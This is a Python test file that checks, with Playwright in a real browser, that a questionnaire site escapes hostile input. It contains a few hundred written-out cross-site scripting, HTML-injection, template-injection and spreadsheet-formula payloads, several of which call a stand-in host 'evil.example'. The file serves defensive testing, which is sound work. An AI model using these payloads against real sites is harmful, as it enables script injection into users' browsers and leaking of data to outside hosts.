# ruff: noqa: E501 (a payload is one line)
"""A document, a name, an address may hold anything: in a real browser nothing of it runs, and
nothing is asked of another host.

Each payload would leave a mark if it ran (`window.pwned`, a dialog), ask for something on a host
that is not there, or be refused by the policy of the page, which the console tells.
"""

from __future__ import annotations

from urllib.parse import quote

import pytest
from playwright.sync_api import sync_playwright

from tests.site.browser import ARGUMENTS, MISSING, installed, served

RUN = "window.pwned=1"
OUT = "//evil.example/x"
TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\t>",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={OUT}></script>",
    f"<script src=data:,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={OUT}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data={OUT}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<embed src={OUT}>",
    f"<applet code={OUT}></applet>",
    f"<base href={OUT}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<link rel=stylesheet href={OUT}>",
    f"<link rel=preload as=image href={OUT}>",
    f"<link rel=dns-prefetch href={OUT}><link rel=prefetch href={OUT}>",
    f"<style>@import '{OUT}';</style>",
    f"<style>*{{background:url({OUT})}}</style>",
    f"<div style=background:url({OUT})>a</div>",
    f"<div style='width:expression({RUN})'>a</div>",
    f"<img src={OUT}>",
    f"<img srcset={OUT}>",
    f"<picture><source srcset={OUT}><img></picture>",
    f"<input type=image src={OUT}>",
    f"<video poster={OUT}></video>",
    f"<audio src={OUT} autoplay></audio>",
    f"<body background={OUT}>",
    f"<table background={OUT}><td>a</table>",
    f"<form action=javascript:{RUN}><button autofocus>a</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{RUN}>a</button>",
    f"<isindex action=javascript:{RUN}>",
    f"<frameset onload={RUN}><frame src={OUT}></frameset>",
    f"<xml><x xmlns:s='http://www.w3.org/1999/xhtml'><s:script>{RUN}</s:script></x></xml>",
    f"<template><script>{RUN}</script></template>",
    f"<textarea><script>{RUN}</script></textarea>",
    f"<portal src={OUT}></portal>",
    f"<x is=y onclick={RUN}>a</x>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<?php echo '<script>{RUN}</script>' ?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
]
EVENTS = [
    f"<{tag} {event}={RUN}{more}>"
    for tag, event, more in [
        *(("img src=x", "onerror", ""), ("img src=x", "onload", ""), ("body", "onload", "")),
        *(
            ("svg", "onload", ""),
            ("details open", "ontoggle", ""),
            ("input autofocus", "onfocus", ""),
        ),
        *(("select autofocus", "onfocus", ""), ("textarea autofocus", "onfocus", "")),
        *(
            ("video src=x", "onerror", ""),
            ("audio src=x", "onerror", ""),
            ("marquee", "onstart", ""),
        ),
        *(("a href=# autofocus", "onfocus", ""), ("div tabindex=1 autofocus", "onfocusin", "")),
        *(("style", "onload", "></style"), ("link rel=stylesheet href=x", "onerror", "")),
        *(
            ("object data=x", "onerror", ""),
            ("iframe", "onload", ""),
            ("script src=x", "onerror", ""),
        ),
        *(
            ("div", "onpointerover", ""),
            ("div", "onanimationstart", ""),
            ("xss", "onbeforecopy", ""),
        ),
        *(("div", "oncontentvisibilityautostatechange", " style=content-visibility:auto"),),
        *(("video", "onloadstart", "><source"), ("p", "onclick", ""), ("b/", "onmouseover", "/")),
        *(("button popovertarget=x", "onclick", ""), ("xss popover id=x", "onbeforetoggle", "")),
    ]
]
EVENTS += [
    f'<img src="x" OnErRoR\n=\n"{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img\tsrc=x\fonerror={RUN}>",
]
EVENTS += [
    f'<img src=x alt="`" onerror="{RUN}">',
    f"<img src=x:x onerror&#61;{RUN}>",
    f'"><img src=x onerror={RUN}>',
]
EVENTS += [
    f"' onmouseover={RUN} x='",
    f'" autofocus onfocus={RUN} x="',
    f"` onerror={RUN}",
    f"</textarea><img src=x onerror={RUN}>",
]
EVENTS += [
    f"</title><img src=x onerror={RUN}>",
    f"</style><img src=x onerror={RUN}>",
    f"</script><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
]
EVENTS += [
    f"]]><img src=x onerror={RUN}>",
    f"</pre></code><svg onload={RUN}>",
    f"</option></select><svg onload={RUN}>",
    f"</summary></details><svg onload={RUN}>",
]
MARKUP = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={OUT} /></svg>",
    f"<svg><image href={OUT}></svg>",
    f"<svg><use href={OUT}#a></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>a</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{RUN}>a</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>a</maction></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<table><caption><svg><title><style><img src=x onerror={RUN}></style></title></svg></caption></table>",
    f"<noembed><img title='</noembed><img src=x onerror={RUN}>'></noembed>",
    f"<xmp><img title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>",
    f"<!- -><img src=x onerror={RUN}>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<p title='<!--'><img src=x onerror={RUN}><p title='-->'>",
    f"<a href='x\"><img src=x onerror={RUN}>'>a</a>",
    f"<a title='\n\n<img src=x onerror={RUN}>'>a</a>",
    f"<div><img src=x onerror={RUN}",
    f"<img src=x onerror={RUN}//",
    "<a href='",
    '<a href="',
    "<!--",
    "<![CDATA[",
    "<script>",
    "<style>",
    "<textarea>",
    "</main></body>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"\\<script\\>{RUN}\\</script\\>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}",
    f"＜script＞{RUN}＜/script＞",
    f"‹script›{RUN}‹/script›",
    f"<\u200bscript>{RUN}</script>",
    f"<ſcript>{RUN}</ſcript>",
    f"<\ufeffscript>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}",
    "{{7*7}}",
    "{{config}}",
    "{% raw %}{{ 7*7 }}",
    "{{''.__class__.__mro__}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "[[${7*7}]]",
    "=1+1",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1)",
    "+1",
    "-1+1",
    "\u202e<b>abc",
    "\u2028window.pwned=1",
    "\u0000<b>".replace("\u0000", "\ufffd"),
]
SCHEMES = [
    f"{scheme}{RUN}"
    for scheme in [
        *(
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            "java\nscript:",
            "javascript&colon;",
            "\x01javascript:",
        ),
        *(
            "&#106;avascript:",
            "&#x6A;avascript:",
            "javascript&#58;",
            "javascript&#0000058",
            "java&Tab;script:",
        ),
        *(
            "%6aavascript:",
            "javascript%3A",
            "\u00a0javascript:",
            " javascript:",
            "//javascript:",
            "javascript://%0a",
        ),
        *(
            "javascript:/*",
            "vbscript:",
            "livescript:",
            "feed:javascript:",
            "view-source:javascript:",
            "mocha:",
        ),
        *(
            "data:text/html,<script>",
            "data:text/html;base64,",
            "data:image/svg+xml,<svg onload=",
            "blob:",
            "file:///",
        ),
        *(
            "jar:",
            "about:",
            "filesystem:",
            "intent:",
            "x-javascript:",
            "JAVASCRIPT&#x3A;",
            "jav&#x0A;ascript:",
        ),
    ]
]
LINKS = [
    form.format(each)
    for each in SCHEMES
    for form in ("[a]({})", "<{}>", "![a]({})", '<a href="{}">a</a>')
]
LINKS += [f"[a]: {each}\n\n[a]" for each in SCHEMES[:8]]
LINKS += [f"![a](http:{OUT})", f"[![a]({OUT})](http://exemple.fr)", f'[a](http://exemple.fr "onclick={RUN}")',
          f"[a](<x\" onclick={RUN}>)", f"[a](http://exemple.fr'onclick={RUN})", f"http://exemple.fr/\"onclick={RUN}",
          f"<http://exemple.fr/\"><img/src=x/onerror={RUN}>", f"`<img src=x onerror={RUN}>`",
          f"~~~ \"><script>{RUN}</script>\na\n~~~", f"[a][<img src=x onerror={RUN}>]", f"![<img src=x onerror={RUN}>](b)"]  # fmt: skip
PAYLOADS = [*TAGS, *EVENTS, *MARKUP, *LINKS]
NAMES = [
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"' autofocus onfocus={RUN} '",
    "{{7*7}}",
]


def _in_yaml(text):
    return "'" + text.replace("'", "''") + "'"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A questionnaire whose title, sections, questions, answers and names are payloads."""
    if not installed():
        pytest.skip(MISSING)
    raw = tmp_path_factory.mktemp("hostile") / "raw"
    (raw / "q").mkdir(parents=True)
    name, place, note, title = map(_in_yaml, NAMES)
    people = "".join(
        f"liste-{c}:\n  name: {_in_yaml(NAMES[n])}\n  note: {note}\n  url: https://exemple.fr/{c}\n"
        for n, c in enumerate("abcd")
    )
    (raw / "respondents.yml").write_text(people, encoding="utf-8")
    (raw / "q" / "questionnaire.yml").write_text(
        f"title: {place}\nelection: {name}\nplace: {place}\nasked_by: {title}\nnote: {note}\n"
        "source_url: https://exemple.fr/\n",
        encoding="utf-8",
    )
    for column in range(4):
        lines = [f"# {NAMES[column]}", ""]
        for number in range(1, 9):
            mine = PAYLOADS[(number - 1) * 4 + column :: 32]
            asked = TAGS[number].replace("\n", " ")
            lines += [f"## {number}. Planterez-vous {number} arbres {asked} ?", "", "Oui.", ""]
            lines += [line for each in mine for line in (f"{each} fin", "")]
        (raw / "q" / f"liste-{'abcd'[column]}.md").write_text("\n".join(lines), encoding="utf-8")
    with served(raw, tmp_path_factory.mktemp("site")) as site:
        yield site


@pytest.fixture(scope="module")
def watched(hostile):
    """A page of a real browser, and what it did that no page of ours does."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=installed(), args=ARGUMENTS)
        page, done = browser.new_context(accept_downloads=True).new_page(), []

        def asked(request):
            if not request.url.startswith((hostile.address, "data:")):
                done.append(("asked", page.url, request.url))

        def said(message):
            if "Failed to load resource" not in message.text:
                done.append(("said", page.url, message.text))

        page.on("request", asked)
        page.on("console", said)
        page.on("dialog", lambda dialog: (done.append(("dialog", page.url)), dialog.dismiss()))
        page.on("pageerror", lambda error: done.append(("error", page.url, str(error))))
        yield page, done
        browser.close()


def opened(watched, site, paths):
    """Every page opened, and touched as a reader would; what happened."""
    page, done = watched
    for path in paths:
        try:
            page.goto(site.address + path, wait_until="load")
        except Exception as error:
            assert "Download is starting" in str(error), path  # noqa: PT017
            continue
        ran = page.evaluate(
            "document.querySelectorAll('details').forEach(d => d.open = true), window.pwned"
        )
        live = page.evaluate(
            """() => document.contentType !== "text/html" ? [] : [...document.querySelectorAll("*")].filter(e =>
              [...e.attributes].some(a => /^on/i.test(a.name) || a.name === "style"
                || (/^(href|src|action|formaction|data|xlink:href)$/.test(a.name)
                    && /^(java|vb|live)script:|^data:text/i.test(a.value.replace(/[\\s\\x00-\\x20]/g, "")))))
              .filter(e => !e.closest(".CodeMirror")).map(e => e.outerHTML.slice(0, 120))"""
        )
        assert not ran, path
        assert not live, (path, live)
    found, done[:] = list(done), []
    return found


def test_there_are_a_few_hundred_payloads_and_all_are_published(hostile):
    assert len(set(PAYLOADS)) > 250
    words = "\n".join(text for (text,) in hostile.rows("select markdown from documents"))
    assert all(each in words for each in PAYLOADS)
    assert hostile.one("select count(*) from answers") >= 20


def test_nothing_in_a_document_runs_on_any_page_in_any_format(hostile, watched):
    paths = ["/", "/questionnaires", "/flux.atom", "/questionnaires/questionnaires/q.atom"]
    for table in ("answers", "questions", "respondents", "questionnaires", "documents", "replies"):
        rows = [row for (row,) in hostile.rows(f"select id from {table} order by rowid")]
        paths += [
            f"/questionnaires/{table}",
            *(f"/questionnaires/{table}/{row}" for row in rows[:10]),
        ]
        ends = [".json", ".embed"] + [".bib", ".csl", ".png"] * (table == "answers")
        paths += [f"/questionnaires/{table}/{row}{end}" for row in rows[:4] for end in ends]
        paths += [f"/questionnaires/{table}.{end}" for end in ("csv", "embed", "json")]
    for name in ("dataset", "comparer", "reponses-a-une-question", "qui-a-repondu", "liens-cites"):
        paths += [f"/questionnaires/{name}", f"/questionnaires/{name}.embed"]
    document = hostile.one("select id from documents")
    answer = hostile.one("select id from answers")
    paths += [
        f"/questionnaires/documents/{document}.txt",
        f"/questionnaires/answers/{answer}.embed?_statique=1",
    ]
    own = quote(f"{hostile.address}/questionnaires/answers/{answer}", safe="")
    paths += [f"/-/oembed?url={own}&format={kind}" for kind in ("json", "xml")]
    assert opened(watched, hostile, paths) == []


TYPED = [
    NAMES[1],
    f"' onfocus={RUN} autofocus {{{{7*7}}}} </textarea></title></script><script>{RUN}</script>",
]


def test_nothing_in_an_address_runs(hostile, watched):
    answer = "/questionnaires/answers/" + str(hostile.one("select id from answers"))
    paths = []
    for typed in TYPED:
        asked = quote(typed, safe="")
        sql = quote(
            "select '" + typed.replace("'", "''") + "' as \"" + typed.replace('"', '""') + '"',
            safe="",
        )
        paths += [f"{place}{asked}" for place in (
            *("/-/search?q=", "/-/verifier?citation=", f"{answer}?extrait=", f"{answer}.embed?extrait="),
            *("/questionnaires/chercher?q=", "/questionnaires/comparer?a=", "/questionnaires?sql="),
            *("/questionnaires/answers?text__contains=", "/questionnaires/answers?_sort=", "/-/oembed?url="),
            *("/questionnaires/answers?_where=", "/questionnaires/answers?zz=", "/", "/questionnaires/"),
            *("/questionnaires/answers/", "/questionnaires/answers.json?_col=", "/-/search.json?q="),
        )]  # fmt: skip
        paths.append(f"/questionnaires?sql={sql}")
    assert opened(watched, hostile, paths) == []


def test_the_editor_of_sql_works_under_the_policy(hostile, watched):
    page, done = watched
    for path in ("/questionnaires", "/questionnaires?sql=select+1"):
        page.goto(hostile.address + path)
        page.focus("#sql-editor")
        page.wait_for_selector(".CodeMirror textarea", state="attached")
        page.keyboard.type("select id from answers where ")
        assert page.locator(".cm-keyword").count()
        page.click("#sql-format")
        page.wait_for_function("document.querySelector('.CodeMirror').CodeMirror.lineCount() > 1")
    found, done[:] = list(done), []
    assert found == []


def test_an_article_that_is_pasted_runs_nowhere(hostile, watched):
    page, done = watched
    page.goto(hostile.address + "/-/verifier-un-article")
    page.fill("#article", "\n".join(f"« {each} »" for each in PAYLOADS[:150]))
    page.click("form.article button")
    page.wait_for_load_state()
    assert page.evaluate("window.pwned") is None
    found, done[:] = list(done), []
    assert found == []
